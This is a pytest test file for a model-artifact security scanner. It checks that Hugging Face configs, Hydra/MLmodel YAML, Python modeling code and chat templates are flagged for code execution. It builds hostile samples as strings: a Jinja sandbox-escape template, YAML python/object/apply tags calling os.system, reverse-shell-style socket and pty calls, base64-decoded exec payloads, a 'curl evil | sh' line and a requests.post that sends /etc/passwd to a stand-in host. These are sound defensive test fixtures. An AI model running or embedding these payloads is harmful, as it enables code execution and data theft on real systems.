"""The text scanner: JSON configs, YAML (Hydra, MLmodel), Python source and chat templates.

Benign files are real configs of public models (tests/fixtures/configs/README.md); malicious
samples are built here as text. Nothing scanned is ever loaded, imported or rendered.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from shardscan.limits import DEFAULT_LIMITS, Limits
from shardscan.model import Severity, Status
from shardscan.pipeline.runner import Runner, ScanOptions
from shardscan.scanners.text import classify
from tests.findings import rules

C, W, I = Severity.CRITICAL, Severity.WARNING, Severity.INFO
FIXTURES = Path(__file__).parent / "fixtures" / "configs"



def hits(report, rule_id: str):
    return [f for f in report.findings if f.rule_id == rule_id]


def loud(report) -> list[tuple[str, str]]:
    return [(f.rule_id, f.message) for f in report.findings if f.severity >= W]


def assert_hit(report, rule_id: str, severity: Severity, needle: str = "") -> None:
    found = hits(report, rule_id)
    assert found, (rule_id, [(f.rule_id, f.message) for f in report.findings])
    assert any(f.severity == severity and needle in f.message for f in found), \
        [(f.rule_id, f.severity, f.message) for f in found]


# -- benign fixtures -------------------------------------------------------------------------------

BENIGN = sorted(p for p in FIXTURES.rglob("*") if p.is_file() and p.name != "README.md")
#: Findings each fixture must have (rule -> severity); every other fixture has none at all.
EXPECTED = {
    "phi-3-mini-4k-instruct.config.json": {"CFG001": W},
    "lightning-hydra-template.model.mnist.yaml": {"CFG204": I},  # src.models.* (the project's own)
    "MLmodel": {"CFG206": I},  # sklearn flavor, cloudpickle
    "modeling_tiny_llama.py": {"CFG107": I},  # a method that writes a file when called
}


def test_fixture_set_is_complete():
    names = {p.name for p in BENIGN}
    for needle in ("bert", "llama-3-8b-instruct.config", "tokenizer_config", "phi-3", "hydra", "nemo",
                   "MLmodel", "modeling_"):
        assert any(needle in n for n in names), needle


@pytest.mark.parametrize("path", BENIGN, ids=[p.name for p in BENIGN])
def test_benign_fixture(path: Path):
    obj = Runner(ScanOptions()).run([str(path)]).objects[0]
    assert obj.status == Status.SCANNED, obj.error
    assert obj.format == "text"
    expected = EXPECTED.get(path.name, {})
    assert {f.rule_id: f.severity for f in obj.findings} == expected, \
        [(f.rule_id, f.message) for f in obj.findings]


def test_phi3_auto_map_names_the_modules():
    obj = Runner(ScanOptions()).run([str(FIXTURES / "phi-3-mini-4k-instruct.config.json")]).objects[0]
    (found,) = hits(obj, "CFG001")
    assert "modeling_phi3.py" in found.message and "configuration_phi3.py" in found.message
    assert found.evidence["modules"] == "configuration_phi3,modeling_phi3"


def test_llama3_chat_template_reaches_the_template_analyser(monkeypatch):
    templates = pytest.importorskip("shardscan.scanners.templates")
    seen = []
    real = templates.analyse_template

    def spy(text, **kw):
        seen.append(text)
        return real(text, **kw)

    monkeypatch.setattr(templates, "analyse_template", spy)
    obj = Runner(ScanOptions()).run([str(FIXTURES / "llama-3-8b-instruct.tokenizer_config.json")]).objects[0]
    assert len(seen) == 1 and seen[0].startswith("{% set loop_messages = messages %}")
    assert not loud(obj)


def test_whole_fixture_directory():
    run = Runner(ScanOptions()).run([str(FIXTURES)])
    assert len(run.objects) == len(BENIGN) + 1
    assert {f.rule_id for o in run.objects for f in o.findings if f.severity >= W} == {"CFG001"}
    assert not any(f.rule_id == "FMT002" for o in run.objects for f in o.findings)


# -- dispatch --------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "head", "kind"), [
    ("config.json", b"{", "json"), ("a/b/modeling_x.py", b"import torch", "python"),
    ("conf.yaml", b"a: 1", "yaml"), ("conf.YML", b"a: 1", "yaml"), ("model/MLmodel", b"flavors:", "mlmodel"),
    ("chat_template.jinja", b"{{ x }}", "template"), ("README.md", b"# hi", "other"),
    ("run", b"#!/usr/bin/env python3\nimport os", "python"), ("notes.txt", b"hello", "other"),
])
def test_classify(name, head, kind):
    assert classify(name, head) == kind


@pytest.mark.parametrize(("name", "text"), [
    ("README.md", "# A model\n\nUse `trust_remote_code=True`, `os.system` is mentioned here.\n"),
    ("vocab.txt", "[PAD]\n[UNK]\n[CLS]\nthe\n"), ("merges.txt", "#version: 0.2\nĠ t\n"),
    ("LICENSE", "Apache License\nVersion 2.0\n"), ("notes.txt", "{ not json at all"),
])
def test_other_text_is_silent_and_never_fmt002(scan_bytes, name, text):
    report = scan_bytes(text.encode(), name)
    assert report.status == Status.SCANNED, report.error
    assert report.format == "text"
    assert report.findings == []


# -- JSON configs ----------------------------------------------------------------------------------

def test_auto_map_local_modules_warn(scan_bytes):
    cfg = {"model_type": "evil", "auto_map": {"AutoConfig": "configuration_evil.EvilConfig",
                                              "AutoModel": "modeling_evil.EvilModel",
                                              "AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}}
    report = scan_bytes(json.dumps(cfg).encode(), "config.json")
    assert_hit(report, "CFG001", W, "modeling_evil.py")
    assert "tokenization_evil.py" in hits(report, "CFG001")[0].message
    assert rules(report) == {"CFG001"}


def test_auto_map_into_another_repository(scan_bytes):
    cfg = {"auto_map": {"AutoConfig": "mosaicml/mpt-7b--configuration_mpt.MPTConfig",
                        "AutoModelForCausalLM": "mosaicml/mpt-7b--modeling_mpt.MPTForCausalLM"}}
    report = scan_bytes(json.dumps(cfg).encode(), "config.json")
    assert_hit(report, "CFG002", W, "mosaicml/mpt-7b")
    assert len(hits(report, "CFG002")) == 2
    assert hits(report, "CFG002")[0].evidence["repository"] == "mosaicml/mpt-7b"


def test_custom_pipelines_are_remote_code(scan_bytes):
    cfg = {"custom_pipelines": {"text-classification": {"impl": "my_pipeline.MyPipeline", "pt": ["AutoModel"]}}}
    assert_hit(scan_bytes(json.dumps(cfg).encode(), "config.json"), "CFG001", W, "my_pipeline.py")


def test_trust_remote_code_anywhere(scan_bytes):
    cfg = {"model_kwargs": {"trust_remote_code": True}, "other": {"trust_remote_code": True}}
    report = scan_bytes(json.dumps(cfg).encode(), "config_sentence_transformers.json")
    assert_hit(report, "CFG003", W)
    assert len(hits(report, "CFG003")) == 1
    assert not hits(scan_bytes(b'{"trust_remote_code": false}', "config.json"), "CFG003")


def test_json_hydra_target(scan_bytes):
    report = scan_bytes(json.dumps({"x": {"_target_": "os.system", "_args_": ["id"]}}).encode(), "cfg.json")
    assert_hit(report, "CFG203", C, "os.system")


SSTI = ("{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system('echo pwned') }}{% endif %}{% endfor %}")


def test_chat_template_string_goes_to_template_analyser(scan_bytes):
    pytest.importorskip("shardscan.scanners.templates")
    report = scan_bytes(json.dumps({"chat_template": SSTI, "bos_token": "<s>"}).encode(), "tokenizer_config.json")
    assert report.max_severity == C
    assert any(f.rule_id.startswith("TPL") and f.severity == C for f in report.findings)
    assert "FMT002" not in rules(report)


def test_chat_template_list_names_the_template(scan_bytes):
    pytest.importorskip("shardscan.scanners.templates")
    cfg = {"chat_template": [{"name": "default", "template": "{{ messages[0]['content'] }}"},
                             {"name": "tool_use", "template": SSTI}]}
    report = scan_bytes(json.dumps(cfg).encode(), "tokenizer_config.json")
    critical = [f for f in report.findings if f.severity == C]
    assert critical and all("tool_use" in f.message for f in critical)


def test_chat_template_json_file_without_tokenizer_name(scan_bytes):
    pytest.importorskip("shardscan.scanners.templates")
    report = scan_bytes(json.dumps({"chat_template": SSTI}).encode(), "chat_template.json")
    assert report.max_severity == C


def test_jinja_file_goes_to_template_analyser(scan_bytes):
    pytest.importorskip("shardscan.scanners.templates")
    assert scan_bytes(SSTI.encode(), "chat_template.jinja").max_severity == C
    benign = "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] }}{% endfor %}"
    report = scan_bytes(benign.encode(), "chat_template.jinja")
    assert not loud(report)


KERAS_LAMBDA_CONFIG = {
    "module": "keras", "class_name": "Sequential", "registered_name": None,
    "config": {"name": "sequential", "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "in"}},
        {"module": "keras.layers", "class_name": "Dense",
         "config": {"name": "d", "units": 2, "activation": {"module": "os", "class_name": "function",
                                                            "config": "system", "registered_name": "function"}}},
    ]},
}


def test_keras_config_goes_to_keras_analyser(scan_bytes):
    pytest.importorskip("shardscan.scanners.keras")
    report = scan_bytes(json.dumps(KERAS_LAMBDA_CONFIG).encode(), "config.json")
    assert report.max_severity == C
    assert any(f.rule_id.startswith("KER") for f in report.findings)


def test_keras_config_inside_a_keras_archive(scan_bytes):
    pytest.importorskip("shardscan.scanners.keras")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01"}))
        z.writestr("config.json", json.dumps(KERAS_LAMBDA_CONFIG))
    report = scan_bytes(buf.getvalue(), "model.keras")
    assert any(f.rule_id.startswith("KER") and f.location == "config.json" for f in report.findings)


def test_auto_map_inside_a_zip_keeps_the_member_location(scan_bytes):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("repo/config.json", json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}))
        z.writestr("repo/modeling_x.py", "import os\nos.system('id')\n")
    report = scan_bytes(buf.getvalue(), "repo.zip")
    assert any(f.rule_id == "CFG001" and f.location == "repo/config.json" for f in report.findings)
    assert any(f.rule_id == "CFG101" and f.location == "repo/modeling_x.py" for f in report.findings)


def test_json_that_does_not_parse(scan_bytes):
    report = scan_bytes(b'{"a": 1,, }', "config.json")
    assert_hit(report, "CFG302", I, "JSON does not parse")
    assert hits(report, "CFG302")[0].offset == 8


def test_json_looking_text_without_extension(scan_bytes):
    report = scan_bytes(json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}).encode(), "config")
    assert_hit(report, "CFG001", W)


# -- Python source ---------------------------------------------------------------------------------

PY_IMPORT_TIME = [
    ("import os\nos.system('id')\n", "CFG101", "os.system"),
    ("import subprocess as sp\nsp.run(['id'])\n", "CFG101", "subprocess.run"),
    ("from subprocess import Popen as P\nP('id', shell=True)\n", "CFG101", "subprocess.Popen"),
    ("from os import system as s\ns('id')\n", "CFG101", "os.system"),
    ("import posix\nposix.system('id')\n", "CFG101", "os.system"),
    ("import os\nos.popen('id').read()\n", "CFG101", "os.popen"),
    ("import os\nos.execv('/bin/sh', ['sh'])\n", "CFG101", "os.execv"),
    ("import pty\npty.spawn('/bin/sh')\n", "CFG101", "pty.spawn"),
    ("__import__('os').system('id')\n", "CFG101", "os.system"),
    ("import importlib\nimportlib.import_module('subprocess').call('id')\n", "CFG101", "subprocess.call"),
    ("import os\ngetattr(os, 'system')('id')\n", "CFG101", "os.system"),
    ("import sys\nsys.modules['os'].system('id')\n", "CFG101", "os.system"),
    ("__builtins__['exec']('print(1)')\n", "CFG101", "builtins.exec"),
    ("import builtins\nbuiltins.eval('1+1')\n", "CFG101", "builtins.eval"),
    ("exec('import os')\n", "CFG101", "builtins.exec"),
    ("eval(compile('1', 'x', 'eval'))\n", "CFG101", "builtins.compile"),
    ("import os\nrun = os.system\nrun('id')\n", "CFG101", "os.system"),
    ("from os import *\nsystem('id')\n", "CFG101", "os.system"),
    ("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')\n", "CFG101", "ctypes.CDLL"),
    ("import pip\npip.main(['install', 'evil'])\n", "CFG101", "pip.main"),
    ("import runpy\nrunpy.run_path('/tmp/x.py')\n", "CFG101", "runpy.run_path"),
    ("import marshal, types\ntypes.FunctionType(marshal.loads(b'...'), {})()\n", "CFG101", "marshal.loads"),
    ("class Model:\n    import os\n    os.system('id')\n", "CFG101", "os.system"),
    ("import os\n@os.system\ndef f():\n    pass\n", "CFG101", "os.system"),
    ("import os\ndef f(x=os.system('id')):\n    pass\n", "CFG101", "os.system"),
    ("import atexit, os\natexit.register(os.system, 'id')\n", "CFG101", "os.system"),
    ("import threading, subprocess\nthreading.Thread(target=subprocess.call, args=('id',)).start()\n", "CFG101",
     "subprocess.call"),
    ("import os\ntry:\n    import torch\nexcept ImportError:\n    os.system('pip install torch')\n", "CFG101",
     "os.system"),
    ("import socket\ns = socket.socket()\n", "CFG102", "socket.socket"),
    ("import socket\nsocket.create_connection(('evil', 4444))\n", "CFG102", "socket.create_connection"),
    ("import urllib.request\nurllib.request.urlopen('http://evil')\n", "CFG102", "urllib.request.urlopen"),
    ("from urllib.request import urlretrieve\nurlretrieve('http://evil/x', '/tmp/x')\n", "CFG102",
     "urllib.request.urlretrieve"),
    ("import requests\nrequests.post('http://evil', data=open('/etc/passwd').read())\n", "CFG102", "requests.post"),
    ("import http.client\nhttp.client.HTTPSConnection('evil')\n", "CFG102", "http.client.HTTPSConnection"),
    ("open('/home/u/.bashrc', 'a').write('curl evil | sh')\n", "CFG103", "builtins.open"),
    ("import shutil\nshutil.rmtree('/home')\n", "CFG103", "shutil.rmtree"),
    ("import os\nos.remove('/etc/hosts')\n", "CFG103", "os.remove"),
    ("from pathlib import Path\nPath('/tmp/x').write_text('y')\n", "CFG103", "pathlib.Path.write_text"),
    ("import pickle\npickle.loads(open('x', 'rb').read())\n", "CFG103", "pickle.loads"),
    ("import yaml\nyaml.load(open('c.yaml'))\n", "CFG103", "yaml.load"),
    ("name = 'o' + 's'\nm = __import__(name)\n", "CFG104", "builtins.__import__"),
    ("import importlib\nimportlib.import_module(''.join(['o', 's']))\n", "CFG104", "importlib.import_module"),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')\n", "CFG104", "builtins.getattr"),
]


@pytest.mark.parametrize(("source", "rule_id", "name"), PY_IMPORT_TIME, ids=[f"{r}-{n}" for _, r, n in PY_IMPORT_TIME])
def test_python_import_time_behaviour(scan_bytes, source, rule_id, name):
    report = scan_bytes(source.encode(), "modeling_evil.py")
    from shardscan.rules import rule

    assert_hit(report, rule_id, rule(rule_id).severity, name)
    found = next(f for f in hits(report, rule_id) if name in f.message)
    assert found.evidence["callable"] == name and found.evidence["line"] >= 1
    assert found.offset is not None


PAYLOADS = [
    "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
    "import base64 as b\npayload = b.b64decode('aW1wb3J0IG9z')\nexec(payload)\n",
    "import zlib, base64\neval(compile(zlib.decompress(base64.b64decode('eJw=')), '<x>', 'exec'))\n",
    "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n",
    "exec(bytes.fromhex('696d706f7274206f73'))\n",
    "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAA=='))\n",
    "import marshal, base64, types\ntypes.FunctionType(marshal.loads(base64.b64decode('4wA=')), {})()\n",
    "import binascii\ndef later():\n    exec(binascii.unhexlify('696d706f7274206f73'))\n",
]


@pytest.mark.parametrize("source", PAYLOADS)
def test_python_decoded_payloads(scan_bytes, source):
    assert_hit(scan_bytes(source.encode(), "handler.py"), "CFG105", C)


FUNCTION_LEVEL = [
    ("import subprocess\ndef f():\n    subprocess.check_output(['nvidia-smi'])\n", "CFG106", "subprocess.check_output"),
    ("import requests\nclass A:\n    def get(self):\n        return requests.get('http://x')\n", "CFG106",
     "requests.get"),
    ("def f(src):\n    return eval(src)\n", "CFG106", "builtins.eval"),
    ("import os\nif __name__ == '__main__':\n    os.system('make')\n", "CFG106", "os.system"),
    ("import os\nf = lambda: os.system('id')\n", "CFG106", "os.system"),
    ("def f(p):\n    with open(p, 'w') as h:\n        h.write('x')\n", "CFG107", "builtins.open"),
    ("import torch\ndef load(p):\n    return torch.load(p)\n", "CFG107", "torch.load"),
    ("import importlib\ndef f(n):\n    return importlib.import_module(n)\n", "CFG107", "importlib.import_module"),
]


@pytest.mark.parametrize(("source", "rule_id", "name"), FUNCTION_LEVEL, ids=[f"{r}-{n}" for _, r, n in FUNCTION_LEVEL])
def test_python_function_level_is_lower(scan_bytes, source, rule_id, name):
    report = scan_bytes(source.encode(), "modeling_x.py")
    from shardscan.rules import rule

    assert_hit(report, rule_id, rule(rule_id).severity, name)
    assert not [f for f in report.findings if f.severity == C]


def test_hub_download_at_import_is_a_warning_and_silent_in_functions(scan_bytes):
    at_import = scan_bytes(b"from huggingface_hub import hf_hub_download\nhf_hub_download('a/b', 'w.bin')\n",
                           "modeling_x.py")
    assert_hit(at_import, "CFG102", W, "hf_hub_download")
    in_function = scan_bytes(b"from huggingface_hub import hf_hub_download\ndef f():\n"
                             b"    return hf_hub_download('a/b', 'w.bin')\n", "modeling_x.py")
    assert in_function.findings == []


@pytest.mark.parametrize("source", [
    "import os\nx = os.path.join('a', 'b')\nos.environ.get('HOME')\nos.makedirs('cache', exist_ok=True)\n",
    "import sys\nsys.path.insert(0, '.')\n",
    "from urllib.parse import urlparse\nurlparse('http://x')\n",
    "import yaml\nyaml.load(open('c.yaml'), Loader=yaml.SafeLoader)\nyaml.safe_load('a: 1')\n",
    "import importlib\ntorch = importlib.import_module('torch')\n",
    "open('vocab.txt').read()\nopen('vocab.txt', 'r', encoding='utf-8')\n",
    "import logging, warnings\nlogger = logging.getLogger(__name__)\nwarnings.filterwarnings('ignore')\n",
    "import torch\n@torch.jit.script\ndef f(x):\n    return x\ncompiled = torch.compile(f)\n",
    "import subprocess\nDEVNULL = subprocess.DEVNULL\n",
    "def system(x):\n    return x\nsystem('id')\n",
])
def test_python_benign_idioms(scan_bytes, source):
    report = scan_bytes(source.encode(), "modeling_x.py")
    assert report.findings == [], [(f.rule_id, f.message) for f in report.findings]


#: Content detection calls text what decodes as UTF-8 in its first 4 KiB: put the odd bytes after.
PADDING = (b"#" * 80 + b"\n") * 60


def test_python_coding_cookie_is_honoured(scan_bytes):
    source = b"# -*- coding: latin-1 -*-\nimport os\n" + PADDING + b"name = '\xe9'\nos.system('id')\n"
    report = scan_bytes(source, "modeling_x.py")
    assert report.format == "text"
    assert_hit(report, "CFG101", C)


def test_python_syntax_error(scan_bytes):
    report = scan_bytes(b"import os\ndef broken(:\n    pass\n", "modeling_x.py")
    assert_hit(report, "CFG302", I, "does not parse")


def test_python_truncated_utf8(scan_bytes):
    report = scan_bytes(PADDING + "x = 'é'\n".encode()[:-3] + b"\xc3", "modeling_x.py")
    assert report.status == Status.SCANNED, report.error
    assert report.format == "text"
    assert_hit(report, "CFG302", I, "does not parse")


def test_python_deep_nesting_is_a_finding(scan_bytes):
    report = scan_bytes(b"x = " + b"(" * 5000 + b"1" + b")" * 5000 + b"\n", "modeling_x.py")
    assert report.status == Status.SCANNED, report.error
    assert rules(report) & {"CFG301", "CFG302"}
    report = scan_bytes(b"x = " + b"+".join([b"a"] * 20000) + b"\n", "modeling_x.py")
    assert report.status == Status.SCANNED, report.error


def test_python_ast_node_limit(scan_bytes):
    limits = Limits(max_ast_nodes=100)
    report = scan_bytes(("\n".join(f"x{i} = {i}" for i in range(200)) + "\n").encode(), "modeling_x.py",
                        limits=limits)
    assert_hit(report, "CFG301", W, "syntax nodes")


def test_python_shebang_script_without_extension(scan_bytes):
    assert_hit(scan_bytes(b"#!/usr/bin/env python\nimport os\nos.system('id')\n", "run"), "CFG101", C)


# -- YAML ------------------------------------------------------------------------------------------

YAML_TAGS = [
    ("!!python/object/apply:os.system ['id']\n", "CFG201", C),
    ("x: !!python/object/apply:subprocess.check_output [['id']]\n", "CFG201", C),
    ("x: !!python/object/new:builtins.type ['x', [], {}]\n", "CFG201", C),
    ("x: !!python/object/apply:collections.OrderedDict []\n", "CFG201", C),  # calls: always critical
    ("x: !!python/name:os.system\n", "CFG201", C),
    ("x: !!python/module:subprocess\n", "CFG201", C),
    ("x: !!python/object:os._wrap_close {}\n", "CFG201", C),
    ("x: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n", "CFG201", C),
    ("%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ['id']\n", "CFG201", C),
    ("x: !!python/object/apply:os%2Esystem ['id']\n", "CFG201", C),
    ("x: !!python/name:mypkg.layers.Swish ''\n", "CFG202", W),
    ("x: !!python/module:mypkg\n", "CFG202", W),
    ("x: !!python/name:collections.OrderedDict ''\n", "CFG202", I),  # allowlisted: INFO
]


@pytest.mark.parametrize(("text", "rule_id", "severity"), YAML_TAGS,
                         ids=[t.split("\n")[0][:50] for t, _, _ in YAML_TAGS])
def test_yaml_python_tags(scan_bytes, text, rule_id, severity):
    report = scan_bytes(text.encode(), "hparams.yaml")
    assert_hit(report, rule_id, severity)


def test_yaml_plain_python_types_are_fine(scan_bytes):
    report = scan_bytes(b"kernel: !!python/tuple [3, 3]\nname: !!python/str x\nc: !!python/complex 1+2j\n",
                        "hparams.yaml")
    assert report.findings == []


def test_yaml_tag_in_a_later_document_and_in_txt(scan_bytes):
    text = b"a: 1\n---\nb: !!python/object/apply:os.system ['id']\n"
    assert_hit(scan_bytes(text, "config.yml"), "CFG201", C)
    assert_hit(scan_bytes(text, "settings.txt"), "CFG201", C)


@pytest.mark.parametrize("name", ["SECURITY.md", "notes.txt"])
def test_documentation_quoting_a_payload_is_silent(scan_bytes, name):
    text = (b"# YAML attacks\n\nNever load configs like:\n\n    x: !!python/object/apply:os.system ['id']\n\n"
            b"- or `!!python/name:os.system` - with yaml.load: it runs code.\n")
    assert scan_bytes(text, name).findings == []


def test_yaml_that_does_not_parse_is_checked_by_pattern(scan_bytes):
    text = b"a: [1, 2\nb: !!python/object/apply:os.system ['id']\n"
    report = scan_bytes(text, "config.yaml")
    assert_hit(report, "CFG302", I, "YAML does not parse")
    assert_hit(report, "CFG201", C, "os.system")


def test_hydra_targets(scan_bytes):
    text = b"""
model:
  _target_: torch.nn.Linear
  in_features: 3
evil:
  _target_: os.system
  _args_: ["curl evil | sh"]
forward:
  _target_: hydra.utils.get_method
  path: subprocess.check_output
by_args:
  _target_: hydra.utils.get_object
  _args_: ["builtins.eval"]
mine:
  _target_: my_project.models.Net
interp:
  _target_: ${model.cls}
builtin:
  _target_: builtins.exec
"""
    report = scan_bytes(text, "config.yaml")
    critical = {f.evidence.get("target") for f in hits(report, "CFG203")}
    assert critical == {"os.system", "subprocess.check_output", "builtins.eval", "builtins.exec"}
    assert all(f.severity == C for f in hits(report, "CFG203"))
    assert "curl evil" in next(f for f in hits(report, "CFG203") if f.evidence["target"] == "os.system").message
    (unknown,) = hits(report, "CFG204")
    assert unknown.severity == I and unknown.evidence["target"] == "my_project.models.Net"


def test_mlmodel_custom_loader_and_code(scan_bytes):
    text = b"""artifact_path: model
flavors:
  python_function:
    cloudpickle_version: 3.0.0
    code: code
    env:
      conda: conda.yaml
    loader_module: mlflow.pyfunc.model
    python_model: python_model.pkl
    python_version: 3.11.7
  custom:
    loader_module: evil_loader
    data: data
mlflow_version: 2.12.1
"""
    report = scan_bytes(text, "MLmodel")
    assert_hit(report, "CFG205", W, "evil_loader")
    assert_hit(report, "CFG206", I, "code path 'code'")
    assert "cloudpickle" in hits(report, "CFG206")[0].message
    assert len(hits(report, "CFG205")) == 1  # mlflow.pyfunc.model is MLflow's own


def test_mlmodel_with_python_tag(scan_bytes):
    report = scan_bytes(b"flavors: !!python/object/apply:os.system ['id']\n", "MLmodel")
    assert_hit(report, "CFG201", C)


def test_yaml_trust_remote_code(scan_bytes):
    report = scan_bytes(b"model:\n  name: x\n  trust_remote_code: true\n", "train.yaml")
    assert_hit(report, "CFG003", W)
    assert not hits(scan_bytes(b"model:\n  trust_remote_code: 'true'\n", "train.yaml"), "CFG003")


# -- hostile sizes and shapes ----------------------------------------------------------------------

def billion_laughs(levels: int = 10) -> bytes:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        refs = ",".join([f"*a{i - 1}"] * 10)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return ("\n".join(lines) + "\n").encode()


def test_billion_laughs_is_bounded(scan_bytes):
    start = time.monotonic()
    report = scan_bytes(billion_laughs(), "config.yaml")
    assert time.monotonic() - start < 5
    assert_hit(report, "CFG301", W, "billion laughs")


def test_recursive_alias(scan_bytes):
    assert_hit(scan_bytes(b"a: &a [*a, 1]\n", "config.yaml"), "CFG301", W, "recursive")


@pytest.mark.parametrize("text", [
    b"[" * 100_000 + b"]" * 100_000,  # past CPython's recursion limit
    b"[" * 400 + b"]" * 400,  # parses, but deeper than max_config_depth
    b'{"a":' * 400 + b"1" + b"}" * 400,
])
def test_deep_json(scan_bytes, text):
    report = scan_bytes(text, "config.json")
    assert report.status == Status.SCANNED, report.error
    assert_hit(report, "CFG301", W)


@pytest.mark.parametrize("text", [
    b"a: " + b"[" * 5000 + b"]" * 5000 + b"\n",
    b"".join(b"  " * i + b"k:\n" for i in range(400)),
    b"- " * 3000 + b"x\n",
])
def test_deep_yaml(scan_bytes, text):
    report = scan_bytes(text, "config.yaml")
    assert report.status == Status.SCANNED, report.error
    assert rules(report) & {"CFG301", "CFG302"}


def test_yaml_node_limit(scan_bytes):
    text = ("\n".join(f"k{i}: {i}" for i in range(500)) + "\n").encode()
    assert_hit(scan_bytes(text, "config.yaml", limits=Limits(max_config_nodes=100)), "CFG301", W)


def test_json_value_limit(scan_bytes):
    text = json.dumps({"a": [[i] for i in range(500)]}).encode()
    assert_hit(scan_bytes(text, "config.json", limits=Limits(max_config_nodes=100)), "CFG301", W)


def test_text_beyond_the_size_limit_is_coverage(scan_bytes):
    big = b"# comment\n" * 200
    limits = Limits(max_text_bytes=1000, max_json_bytes=1000)
    assert_hit(scan_bytes(big, "modeling_x.py", limits=limits), "FMT005", W, "not analysed")
    assert_hit(scan_bytes(b'{"a": "' + b"x" * 2000 + b'"}', "config.json", limits=limits), "FMT005", W)
    assert scan_bytes(b"words\n" * 500, "README.md", limits=limits).findings == []


def test_truncated_utf8_json(scan_bytes):
    data = json.dumps({"name": "é" * 3000}, ensure_ascii=False).encode()[:-4]
    report = scan_bytes(data + b"\xc3", "config.json")
    assert report.format == "text"
    assert report.status == Status.SCANNED, report.error
    assert_hit(report, "CFG302", I)


def test_invalid_utf8_tail_in_yaml(scan_bytes):
    data = b"a: 1\n" * 1000 + b"b: \xff\xfe\nc: !!python/object/apply:os.system ['id']\n"
    report = scan_bytes(data, "config.yaml")
    assert_hit(report, "CFG302", I, "not valid UTF-8")
    assert_hit(report, "CFG201", C)


@pytest.mark.parametrize("name", ["config.json", "config.yaml", "modeling_x.py", "MLmodel", "t.jinja"])
def test_empty_and_random(scan_bytes, name):
    assert scan_bytes(b"", name).status in (Status.SCANNED, Status.ERROR)
    noise = os.urandom(4096)
    report = scan_bytes(noise, name)
    assert report.status in (Status.SCANNED, Status.ERROR)
    assert report.error is None or "failed" not in report.error


@pytest.mark.parametrize("name", ["config.json", "config.yaml", "modeling_x.py", "MLmodel"])
def test_printable_garbage(scan_bytes, name):
    report = scan_bytes(b"\x01\x02 {[: - !!& *x ]] \t\x07 " * 100, name)
    assert report.status == Status.SCANNED, report.error


def test_default_limits_are_sane():
    assert DEFAULT_LIMITS.max_json_bytes >= DEFAULT_LIMITS.max_text_bytes
    assert DEFAULT_LIMITS.max_config_depth < sys.getrecursionlimit()


# -- nothing is executed -----------------------------------------------------------------------------

def test_scanning_runs_nothing(tmp_path: Path):
    marker = tmp_path / "pwned-marker"
    samples = tmp_path / "samples"
    samples.mkdir()
    touch = f"touch {marker}"
    write = f"open({str(marker)!r}, 'w').write('x')"
    (samples / "modeling_evil.py").write_text(f"import os\nos.system({touch!r})\n{write}\n")
    (samples / "hparams.yaml").write_text(f"x: !!python/object/apply:os.system [{touch!r}]\n")
    (samples / "MLmodel").write_text(f"flavors: !!python/object/apply:os.system [{touch!r}]\n")
    (samples / "config.yaml").write_text(f"x:\n  _target_: os.system\n  _args_: [{touch!r}]\n")
    (samples / "chat_template.jinja").write_text(
        "{{ cycler.__init__.__globals__.os.system('" + touch + "') }}")
    script = ("import sys; from shardscan.pipeline.runner import Runner, ScanOptions; "
              "run = Runner(ScanOptions()).run([sys.argv[1]]); print(len(run.findings))")
    out = subprocess.run([sys.executable, "-c", script, str(samples)], capture_output=True, text=True,
                         timeout=120, check=True)
    assert int(out.stdout.strip()) >= 4
    assert not marker.exists()


def test_bundled_datasets_are_not_downloads(scan_bytes):
    """sklearn's load_* read files shipped with sklearn; fetch_* download."""
    local = scan_bytes(b"from sklearn.datasets import load_iris\nX, y = load_iris(return_X_y=True)\n", "gen.py")
    assert not [f for f in local.findings if f.rule_id == "CFG102"]
    remote = scan_bytes(b"from sklearn.datasets import fetch_openml\nX = fetch_openml('mnist_784')\n", "gen.py")
    assert [f.rule_id for f in remote.findings if f.rule_id == "CFG102"] == ["CFG102"]
